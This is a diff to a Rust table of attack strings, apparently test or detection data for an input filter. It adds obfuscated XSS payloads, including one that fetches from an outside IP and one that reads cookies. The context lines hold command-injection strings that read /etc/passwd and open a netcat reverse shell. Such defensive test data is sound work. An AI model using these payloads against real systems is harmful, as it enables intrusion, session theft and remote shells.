@@ -83,6 +83,9 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Xss, Source::User, "q=\\u0061lert(1)"),
     (Category::Xss, Source::User, "p=\" autofocus onfocus="),
     (Category::Xss, Source::User, "j=(![]+[])[+[]]"),
+    (Category::Xss, Source::User, "{\"link\":\"jav&#10;ascript:fetch('//203.0.113.9')\"}"),
+    (Category::Xss, Source::User, "v=+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
+    (Category::Xss, Source::User, "n=document/**/./**/cookie"),
     // command injection: list operators, substitution, reverse shells, PowerShell, shellshock
     (Category::CommandInjection, Source::User, "127.0.0.1; cat /etc/passwd"),
     (Category::CommandInjection, Source::User, "name=x|nc 198.51.100.7 4444 -e /bin/sh"),
